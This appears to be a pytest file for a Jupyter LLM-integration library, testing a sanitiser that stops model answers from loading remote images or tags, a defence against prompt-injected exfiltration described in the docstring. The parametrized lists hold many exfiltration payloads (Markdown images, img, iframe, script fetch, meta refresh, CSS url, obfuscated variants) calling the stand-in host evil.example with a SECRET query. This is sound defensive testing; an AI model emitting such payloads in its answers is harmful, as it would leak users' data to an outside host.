"""Answers shown as Markdown or HTML load nothing remote (case 4 of the hardening issue):
a prompt-injected image URL would otherwise be fetched by the browser the moment the answer
renders. Local and data: images still show; code is left alone; a setting turns it off."""

from __future__ import annotations

from typing import Any

import pytest

import llm_magics as lm
from llm_magics._core.markdown import allow_remote, safe_html, safe_markdown
from llm_magics.notebook.display import bundle
from tests.magics_helpers import ip

__all__ = ["ip"]  # fixtures

EXFIL = "https://evil.example/collect?q=SECRET"


@pytest.fixture(autouse=True)
def _default_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("LLM_MAGICS_REMOTE_CONTENT", raising=False)


@pytest.mark.parametrize(
    "answer",
    [
        f"Done. ![]({EXFIL})",
        f'Done. ![chart]({EXFIL} "title")',
        f"Done. ![chart][1]\n\n[1]: {EXFIL}",
        f"Done. ![chart]\n\n[chart]: <{EXFIL}>",
        f'<img src="{EXFIL}">',
        f"<img src={EXFIL} />",
        f'<picture><source srcset="a.png 1x, {EXFIL} 2x"></picture>',
        f'<video poster="{EXFIL}"></video>',
        f'<div style="background: url({EXFIL})">x</div>',
        f'<iframe src="{EXFIL}"></iframe>',
        f'<link rel="stylesheet" href="{EXFIL}">',
        "<script>fetch('https://evil.example')</script>",
        f'<svg><image href="{EXFIL}"/></svg>',
        f'<meta http-equiv="refresh" content="0;url={EXFIL}">',
        "![](//evil.example/collect?q=SECRET)",
    ],
)
def test_a_remote_resource_in_an_answer_is_not_rendered_as_something_that_loads(
    answer: str,
) -> None:
    shown = bundle(answer, "markdown")["text/markdown"]
    assert not _would_load(shown), shown
    assert not _live_tag(bundle(answer, "html")["text/html"]), "HTML renders tags only"
    assert bundle(answer, "markdown")["text/plain"] == answer, "the text itself is unchanged"


def _would_load(markdown: str) -> bool:
    """Whether a Markdown renderer would fetch the URL: an image whose target is remote, or
    a live tag naming it (an escaped &lt;tag is text)."""
    import re

    if re.search(r"!\[[^\]]*\]\((<)?(https?:)?//", markdown):
        return True
    if re.search(r"!\[[^\]]*\](\[[^\]]*\])?", markdown) and re.search(
        r"^\s*\[[^\]]+\]:\s*<?(https?:)?//", markdown, re.M
    ):
        return True
    return _live_tag(markdown)


def _live_tag(text: str) -> bool:
    import re

    return bool(re.search(r"<(img|source|video|iframe|link|script|image|meta|div)\b", text))


def test_a_remote_image_becomes_a_link_with_its_text() -> None:
    assert safe_markdown(f"See ![the chart]({EXFIL}).") == f"See [image: the chart]({EXFIL})."


@pytest.mark.parametrize(
    "answer",
    [
        "![plot](plot.png)",
        "![plot](./figures/plot.png)",
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        '<img src="figures/plot.png" width="200">',
        "A table:\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "Use `![x](https://example.com/i.png)` in Markdown.",
        "```markdown\n![x](https://example.com/i.png)\n<img src='https://a.b/c'>\n```",
        "Math: $a < b$ and <b>bold</b> and <br>",
    ],
)
def test_local_and_data_images_and_code_are_left_exactly_as_they_are(answer: str) -> None:
    assert safe_markdown(answer) == answer
    assert safe_html(answer) == answer or "`" in answer or "![" in answer


def test_the_setting_lets_remote_content_load(monkeypatch: pytest.MonkeyPatch) -> None:
    answer = f"![]({EXFIL})"
    monkeypatch.setenv("LLM_MAGICS_REMOTE_CONTENT", "1")
    assert safe_markdown(answer) == answer
    allow_remote(False)
    assert safe_markdown(answer) != answer


def test_a_response_renders_safe_markdown_in_jupyter() -> None:
    response = lm.Response(f"![]({EXFIL})", "m", "openai")
    assert EXFIL not in response._repr_markdown_().split("(")[0]
    assert response._repr_markdown_().startswith("[image](")
    assert str(response) == f"![]({EXFIL})"


def test_the_magic_setting_switches_it(ip: Any) -> None:
    from llm_magics._core.markdown import remote_allowed

    ip.run_line_magic("config", "LLMMagics.remote_content = True")
    assert remote_allowed()
    ip.run_line_magic("config", "LLMMagics.remote_content = False")
    assert not remote_allowed()


TRICKY = [
    "![a](https\\://evil.example/x.png)",
    "![a](https&#58;//evil.example/x.png)",
    '<img src="&#x68;ttps://evil.example/x.png">',
    "![l][x]\n\nRun `pip`.\n\n[x]: https://evil.example/p.png",
    "![a [b [c]]](https://evil.example/x.png)",
    '<img alt=">" src="https://evil.example/x.png">',
    "A `tick\n\n![a](https://evil.example/x.png)\n\nand `another",
    "```a`b\n![a](https://evil.example/x.png)",
    "![x][Foo  Bar]\n\n[foo bar]: https://evil.example/p.png",
    "![a](\\\\evil.example/x.png)",
    "![a](<https://evil.example/x y.png>)",
]


@pytest.mark.parametrize("answer", TRICKY)
def test_a_real_markdown_renderer_fetches_nothing_remote_from_the_safe_text(answer: str) -> None:
    # The oracle is a CommonMark renderer (mistune, as nbconvert uses), not our own regexes.
    import re

    mistune = pytest.importorskip("mistune")
    rendered = mistune.html(safe_markdown(answer))
    sources = re.findall(r"<(?:img|iframe|source|video)\b[^>]*\bsrc=\"([^\"]*)\"", rendered)
    assert all(src.startswith("data:") or ("://" not in src and not src.startswith("//"))
               for src in sources), (answer, rendered)  # fmt: skip
    raw = mistune.html(answer)
    assert "<img" in raw or "&lt;img" in raw or "evil" in raw  # the case is a real image
